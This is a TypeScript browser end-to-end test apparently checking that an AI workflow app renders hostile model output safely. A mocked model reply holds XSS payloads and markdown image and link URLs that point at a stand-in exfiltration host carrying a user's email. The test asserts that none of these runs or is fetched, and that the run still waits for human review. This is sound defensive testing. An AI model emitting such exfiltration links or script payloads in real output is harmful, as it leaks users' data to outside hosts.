import type { APIRequestContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startOpenAICompatibleServer } from '../ai/openai-compatible-server';
import { EXFIL_HOST, PAYLOADS, profileAnswers, profileThenAdvice } from '../security/injection-kit';
import { signUp, uniqueEmail, useE2E } from './harness';
import { say } from './journey-steps';

/**
 * Hostile model output in Chromium: the assistant's reply and an AI step's answer carry script,
 * event-handler, javascript: and exfiltration payloads. None may run, and the browser may never
 * ask the outside host for anything.
 */

const HOSTILE = [
  'Here is your **summary**.',
  PAYLOADS.imgOnError,
  PAYLOADS.script,
  PAYLOADS.jsLink,
  PAYLOADS.iframe,
  `![status](https://${EXFIL_HOST}/pixel.png?d=dana.reyes%40example.com)`,
  `[open report](https://${EXFIL_HOST}/r?d=5400)`,
].join('\n\n');

let llm: Awaited<ReturnType<typeof startOpenAICompatibleServer>>;
beforeAll(async () => {
  llm = await startOpenAICompatibleServer((request) =>
    request.response_format?.type === 'json_schema' ? { content: JSON.stringify({ summary: HOSTILE }) } : { content: HOSTILE },
  );
});
afterAll(async () => llm?.close());
const e2eOf = useE2E('injection', () => ({ MODEL: 'openai-compatible:local-test-model', OPENAI_BASE_URL: llm.baseURL }));

/** Every request the page makes to the exfiltration host, and a check that nothing hostile ran or was built. */
function watch(page: Page) {
  const outside: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes(EXFIL_HOST)) outside.push(request.url());
  });
  const dangerous = () =>
    page.evaluate(`({
      pwned: window.__pwned ?? null,
      elements: [...document.querySelectorAll('[onerror], [onload], iframe, img[src="x"], img[src*="${EXFIL_HOST}"], a[href^="javascript:" i], script:not([src])')].map((e) => e.outerHTML),
    })`);
  return { outside, dangerous };
}

async function trpc<T>(request: APIRequestContext, path: string, input: unknown): Promise<T> {
  const res = await request.post(`/trpc/${path}`, { data: input });
  expect(res.ok(), `${path}: ${await res.text()}`).toBe(true);
  return ((await res.json()) as { result: { data: T } }).result.data;
}

describe('hostile model output in the browser', () => {
  it('the assistant reply renders as text and sanitized markdown: no script runs, no image or frame is fetched', async () => {
    const { page } = await e2eOf().newUser();
    const { outside, dangerous } = watch(page);
    await signUp(page, uniqueEmail('inject-chat'));
    await say(page, 'How am I doing?');
    const reply = page.locator('.markdown').filter({ hasText: 'open report' }).last();
    await reply.waitFor();
    await expect.poll(() => reply.locator('strong').first().textContent()).toBe('summary');
    expect(await reply.getByText('[image: status]').count()).toBe(1);
    expect(await reply.getByRole('link', { name: 'click for your refund' }).getAttribute('href')).not.toMatch(/javascript/i);
    await page.waitForLoadState('networkidle');
    expect(await dangerous()).toEqual({ pwned: null, elements: [] });
    expect(outside).toEqual([]);
  });

  it('an AI step answer and hostile form answers on the execution page render as text: nothing runs or leaves', async () => {
    const { context, page } = await e2eOf().newUser();
    const { outside, dangerous } = watch(page);
    await signUp(page, uniqueEmail('inject-run'));
    const saved = await trpc<{ id: string }>(context.request, 'workflows.create', { definition: profileThenAdvice() });
    const run = await trpc<{ id: string }>(context.request, 'executions.start', { workflowId: saved.id });
    await trpc(context.request, 'executions.submitInput', { id: run.id, stepId: 'profile', data: profileAnswers(PAYLOADS.imgOnError) });
    await expect.poll(() => e2eOf().runStatus(run.id), { timeout: 20_000 }).toBe('waiting_for_review');

    await page.goto(`/executions/${run.id}`);
    const answer = page.locator('.prose').filter({ hasText: 'open report' }).first();
    await answer.waitFor();
    expect(await answer.getByText('[image: status]').count()).toBe(1);
    await page.waitForLoadState('networkidle');
    expect(await dangerous()).toEqual({ pwned: null, elements: [] });
    expect(outside).toEqual([]);
    // Nothing the hostile text asked for happened: the run still waits for the person's review.
    expect(await e2eOf().runStatus(run.id)).toBe('waiting_for_review');
  });
});
